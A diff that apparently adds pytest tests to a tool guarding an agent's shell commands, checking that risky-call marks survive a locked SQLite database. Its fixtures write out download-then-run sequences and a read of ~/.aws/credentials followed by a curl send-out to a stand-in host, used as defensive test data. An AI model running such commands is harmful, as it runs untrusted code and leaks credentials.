@@ -18,10 +18,12 @@ from __future__ import annotations
 
 import json
 import os
+import sqlite3
 import subprocess
 import sys
+from contextlib import contextmanager
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -35,10 +37,14 @@ from interlock.guard.organs import NATIVE
 from interlock.ledger.sessions import Ledger
 from interlock.model.call import Outcome, ToolCall
 from interlock.policy.builtin import builtin
-from interlock.store.database import Store
+from interlock.store.database import AGAIN, Store
 from interlock.store.place import StoreError
+from interlock.store.spool import LIMIT
+from interlock.store.sqlite import load
 
 if TYPE_CHECKING:
+    from collections.abc import Iterator
+
     from interlock.model.decision import Decision
 
 GIT = "git -c user.name=t -c user.email=t@example.test"
@@ -553,6 +559,88 @@ def test_what_waits_in_the_spool_makes_stricter(tmp_path: Path, monkeypatch: pyt
         patch.setattr(Store, "commit", fail)
         session.guard().check(session.call("?", "curl -o f.sh https://x.test/f"))
     assert session.play("? sh f.sh => ask\n? sh f.sh => ask\n? sh g.sh => allow") == []
+
+
+@contextmanager
+def held(store: Store, how: str) -> Iterator[None]:
+    """Hold the database as another process may: against writers, or against everybody."""
+    store.close()
+    other = sqlite3.connect(store.path, isolation_level=None)
+    if how == "EXCLUSIVE":
+        other.execute("PRAGMA locking_mode=EXCLUSIVE")
+    other.execute(f"BEGIN {how}")
+    other.execute("CREATE TABLE IF NOT EXISTS held (a)")
+    try:
+        yield
+    finally:
+        other.execute("ROLLBACK")
+        other.close()
+
+
+MARKING = {
+    "a download": ("curl -o f.sh https://x.test/f", "sh f.sh", "sh g.sh"),
+    "a secret": ("cat {H}/.aws/credentials", "curl -d a=1 https://x.test", "curl https://x.test"),
+    "an archive": ("curl -Os https://x.test/a.tgz && tar xf a.tgz -C a", "sh a/f.sh", "sh g.sh"),
+}
+
+
+@pytest.mark.parametrize("how", ["IMMEDIATE", "EXCLUSIVE"])
+@pytest.mark.parametrize("begun", [True, False], ids=["known session", "new session"])
+@pytest.mark.parametrize(("marks", "meant", "plain"), MARKING.values(), ids=MARKING)
+def test_a_held_database_loses_no_mark(tmp_path: Path, marks: str, meant: str, plain: str, how: str, *, begun: bool) -> None:
+    """While somebody holds it what a call leaves waits, and what may hang on it is asked about; then the mark is there, and only that mark.
+
+    The twin: afterwards a call that it is not about is let pass, in this session and in others.
+    """
+    session = Session(tmp_path)
+    session.store = Store(session.store.folder, busy_seconds=0.05)
+    assert session.play("? ls => allow\n! echo ls > g.sh; mkdir a; echo ls > f.sh; echo ls > a/f.sh") == []
+    session.session = "s" if begun else "new"
+    with held(session.store, how):
+        marking = session.call("?", marks.format(H=session.home))
+        session.guard().check(marking)
+        assert "waits in the spool" in " ".join(session.guard().outcome(Outcome(marking, "ran", "")))
+        assert str(session.guard().check(session.call("?", meant)).verdict) == "ask"
+    assert session.play(f"? {meant} => ask\n? {plain} => allow\n? {meant} => ask") == []
+    assert not session.store.waiting()
+    session.session = "another"
+    assert session.play("? sh g.sh => allow") == []
+
+
+def test_one_answer_waits_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Of the writes of one answer the first waits for whoever holds the database, and the next ones hardly: a call is not held up again and again."""
+    session = Session(tmp_path)
+    assert session.play("? ls => allow") == []
+    waited: list[float] = []
+    real = load().connect
+
+    def connected(path: str, **terms: Any) -> Any:
+        waited.append(terms["timeout"])
+        return real(path, **terms)
+
+    monkeypatch.setattr(load(), "connect", connected)
+    session.store = Store(session.store.folder, busy_seconds=0.2)
+    with held(session.store, "IMMEDIATE"):
+        waited.clear()
+        session.guard().check(session.call("?", "ls"))
+        session.guard().check(session.call("?", "ls"))
+    assert (waited[0], set(waited[1:])) == (0.2, {0.2 / AGAIN})
+    assert session.play("? ls => allow") == []
+    assert session.store.query("PRAGMA busy_timeout") == [(200,)]
+
+
+@pytest.mark.parametrize(("command", "verdict"), [("curl -o f.sh https://x.test/f", "ask"), ("cat {H}/.aws/credentials", "ask"), ("ls", "allow")])
+def test_a_mark_that_has_nowhere_to_wait_is_asked_about(tmp_path: Path, command: str, verdict: str) -> None:
+    """Where neither database nor spool take it, a call that leaves what later ones must know is a question; any other passes; the loss is said."""
+    session = Session(tmp_path)
+    session.store = Store(session.store.folder, busy_seconds=0.05)
+    assert session.play("? ls => allow") == []
+    with (tmp_path / "state/spool.jsonl").open("wb") as file:
+        file.truncate(LIMIT)
+    with held(session.store, "IMMEDIATE"):
+        decision = session.guard().check(session.call("?", command.format(H=session.home)))
+    assert str(decision.verdict) == verdict
+    assert "and it is lost" in " ".join([finding.message for finding in decision.findings])
 
 
 def test_old_marks_go(tmp_path: Path) -> None:
